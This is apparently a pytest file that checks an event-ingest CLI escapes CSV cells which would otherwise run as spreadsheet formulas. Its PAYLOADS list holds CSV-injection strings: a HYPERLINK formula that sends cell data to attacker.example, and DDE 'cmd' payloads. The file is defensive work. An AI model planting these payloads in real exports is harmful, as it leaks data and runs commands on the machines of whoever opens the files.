"""CSV formula injection: event fields sent under a (public) write key, written by
`event-ingest query --format csv` into a file someone opens in a spreadsheet.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP's CSV injection list); the command escapes text cells that
start so with a single quote, and leaves numbers (a negative number from SQL) as they are.
Through click's CliRunner against moto's in-process S3, as tests/functions/cli/test_query.py.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from click.testing import CliRunner

from functions.cli import main
from shared.archive import ObjectStore
from shared.settings import Settings
from tests import archives
from tests.archives import ev
from tests.conftest import settings_env

# What a holder of a browser's key can put in an event name, one per formula trigger.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Order")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A line break inside a cell would let the formula start a row of its own: quoted, it cannot.
INSIDE = ["Signed Up\r=1+1", "Signed Up\n=1+1"]
HARMLESS = ["Signed Up", "a=b", "1-2", "'quoted"]


def invoke(settings: Settings, sql: str):
    return CliRunner().invoke(
        main, ["query", "--format", "csv", sql], env=settings_env(settings), catch_exceptions=False
    )


@pytest.fixture
def archive(s3: Any, settings: Settings) -> None:
    events = [
        ev(f"m{n}", f"13:{n:02d}", name, "u1", properties={"amount": "-5"})
        for n, name in enumerate([*PAYLOADS, *INSIDE, *HARMLESS])
    ]
    store = ObjectStore(s3, settings.s3_bucket)
    archives.write_ndjson(store, settings.s3_prefix, [(b"1-0", events)])


def parsed(output: bytes) -> list[list[str]]:
    """The rows as a spreadsheet reads them: a CR, like a LF, ends a row unless quoted."""
    return list(csv.reader(io.StringIO(output.decode(), newline="")))


@pytest.mark.usefixtures("archive")
def test_text_cells_that_start_a_formula_are_quoted_as_text(settings: Settings) -> None:
    result = invoke(settings, "SELECT event FROM events ORDER BY received_at")
    assert result.exit_code == 0, result.output
    header, *rows = parsed(result.stdout_bytes)
    assert header == ["event"]
    expected = [*("'" + p for p in PAYLOADS), *INSIDE, *HARMLESS]
    assert rows == [[cell] for cell in expected]


@pytest.mark.usefixtures("archive")
def test_numbers_are_left_as_numbers_and_text_that_looks_like_one_is_quoted(
    settings: Settings,
) -> None:
    result = invoke(
        settings,
        "SELECT -5 AS n, -1.5::DOUBLE AS x, -2.25::DECIMAL(9, 2) AS d, "
        "properties->>'amount' AS text_amount, "
        "CAST(properties->>'amount' AS INTEGER) AS cast_amount "
        "FROM events LIMIT 1",
    )
    assert parsed(result.stdout_bytes) == [
        ["n", "x", "d", "text_amount", "cast_amount"],
        ["-5", "-1.5", "-2.25", "'-5", "-5"],
    ]


@pytest.mark.usefixtures("archive")
def test_column_names_made_from_data_are_quoted_too(settings: Settings) -> None:
    # PIVOT names its columns after the values it finds: an attacker's event name.
    result = invoke(
        settings, "PIVOT (SELECT event FROM events WHERE event LIKE '=%') ON event USING count(*)"
    )
    assert parsed(result.stdout_bytes) == [["'" + PAYLOADS[0]], ["1"]]
